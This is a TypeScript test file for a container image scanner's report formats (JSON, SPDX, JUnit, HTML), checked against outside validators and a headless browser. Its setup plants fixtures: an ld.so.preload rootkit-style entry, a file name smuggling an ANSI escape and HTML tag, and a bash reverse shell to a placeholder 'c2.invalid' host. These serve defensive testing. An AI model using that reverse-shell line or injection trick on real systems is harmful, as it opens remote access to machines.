import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { renderJson } from '../../src/report/json/index.ts';
import { renderSpdx } from '../../src/report/spdx/index.ts';
import { CLEAN_REPORT, SAMPLE_REPORT } from '../../src/report/testing/sample-report.ts';
import { assertValid, compileOwnSchema } from '../../src/report/testing/validator.ts';
import { isInstalled, run } from '../peers/run.ts';

/* The formats of a real inspection, held against programs of others that read them. */

const DPKG_STATUS = `Package: libc6
Status: install ok installed
Architecture: amd64
Version: 2.36-9+deb12u9
Maintainer: GNU Libc Maintainers <debian-glibc@lists.debian.org>
Description: GNU C Library

`;

const folder = mkdtempSync(join(tmpdir(), 'pratique-formats-'));
const image = join(folder, 'image');
const main = fileURLToPath(new URL('../../src/cli/main.ts', import.meta.url));
const file = (name: string): string => join(folder, name);

before(() => {
  for (const parent of ['etc', 'app', 'var/lib/dpkg']) mkdirSync(join(image, parent), { recursive: true });
  writeFileSync(
    join(image, 'etc/os-release'),
    'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12"\n',
  );
  writeFileSync(join(image, 'etc/ld.so.preload'), '/usr/lib/libhide.so\n');
  writeFileSync(join(image, 'app/\x1b[31m<b>.sh'), '#!/bin/bash\nbash -i >& /dev/tcp/c2.invalid/4444 0>&1\n');
  writeFileSync(join(image, 'var/lib/dpkg/status'), DPKG_STATUS);
  const formats = ['json', 'sarif', 'cyclonedx', 'spdx', 'junit', 'html'];
  const flags = formats.flatMap((format) => ['--format', `${format}=${file(nameOf(format))}`]);
  const { status, stderr } = pratique('inspect', `rootfs:${image}`, '--no-cache', ...flags);
  assert.equal(status, 1, stderr);
});
after(() => rmSync(folder, { recursive: true, force: true }));

test('a real report is valid by the published schema', () => {
  const text = readFileSync(file('report.json'), 'utf8');
  assertValid(compileOwnSchema('report-1.0.json'), text);
  const report = JSON.parse(text);
  assert.equal(report.decision.outcome, 'deny');
  assert.equal(report.packages.length, 1);
});

test('SPDX is valid by pyspdxtools', {
  skip: !isInstalled('python3') && 'python3 is missing',
  timeout: 300_000,
}, (context) => {
  const tools = installSpdxTools();
  if (tools === undefined) return context.skip('spdx-tools could not be installed from PyPI');
  run(tools, ['-i', file('report.spdx.json')]);
  writeFileSync(file('sample.spdx.json'), renderSpdx([SAMPLE_REPORT, CLEAN_REPORT]));
  run(tools, ['-i', file('sample.spdx.json')]);
  writeFileSync(file('broken.spdx.json'), renderSpdx([SAMPLE_REPORT]).replace('"CC0-1.0"', '"MIT"'));
  assert.throws(() => run(tools, ['-i', file('broken.spdx.json')]));
});

test('JUnit is XML by a parser that is not ours', {
  skip: !isInstalled('python3') && 'python3 is missing',
}, () => {
  const script = [
    'import sys, xml.etree.ElementTree as tree',
    'suites = tree.parse(sys.argv[1]).getroot().findall("testsuite")',
    'print(sum(len(suite.findall("testcase/failure")) for suite in suites), suites[0].get("failures"))',
  ].join('\n');
  const [found, said] = run('python3', ['-c', script, file('report.junit.xml')])
    .trim()
    .split(' ');
  assert.equal(found, said);
  assert.ok(Number(found) >= 3);
});

test('HTML: a browser runs our script and no other, and loads nothing', {
  skip: !isInstalled('chromium') && 'chromium is missing',
  timeout: 60_000,
}, () => {
  const page = run('chromium', [
    '--headless',
    '--no-sandbox',
    '--disable-gpu',
    `--user-data-dir=${file('profile')}`,
    '--dump-dom',
    pathToFileURL(file('report.html')).href,
  ]);
  assert.match(page, /<p class="filter"><input type="search"/);
  assert.match(page, /\/app\/\\x1b\[31m&lt;b&gt;\.sh/);
});

test('json on standard output is one document and nothing else, and no bar where there is no terminal', () => {
  const { status, stdout, stderr } = pratique('inspect', `rootfs:${image}`, '--no-cache', '--format', 'json');
  assert.equal(status, 1);
  assert.equal(stdout, renderJson([JSON.parse(stdout)]));
  assert.equal(stderr, '');
});

test('on a terminal a bar is drawn, and is gone at the end', {
  skip: !isInstalled('script') && 'script is missing',
}, () => {
  const command = [process.execPath, main, 'inspect', `rootfs:${image}`, '--no-cache']
    .map((one) => `'${one}'`)
    .join(' ');
  const { stdout } = spawnSync('script', ['-qec', command, '/dev/null'], {
    encoding: 'utf8',
    env: { ...process.env, TERM: 'xterm-256color' },
  });
  const [bar = '', ...rest] = stdout.split('DENIED');
  assert.match(bar, /of 1 layers/);
  assert.match(bar, /\r\x1b\[K(?:\x1b\[\d+m)*$/);
  assert.ok(!rest.join('').includes('\x1b[K'));
});

function pratique(...args: readonly string[]) {
  return spawnSync(process.execPath, [main, ...args], { encoding: 'utf8' });
}

function nameOf(format: string): string {
  const extensions: Readonly<Record<string, string>> = { spdx: 'spdx.json', junit: 'junit.xml' };
  return `report.${extensions[format] ?? format}`;
}

/** The SPDX project's own validator, in an environment that goes with the test's folder. */
function installSpdxTools(): string | undefined {
  const venv = file('venv');
  try {
    run('python3', ['-m', 'venv', venv]);
    run(join(venv, 'bin/pip'), ['install', '--quiet', '--disable-pip-version-check', 'spdx-tools==0.8.5']);
    return join(venv, 'bin/pyspdxtools');
  } catch {
    return undefined;
  }
}
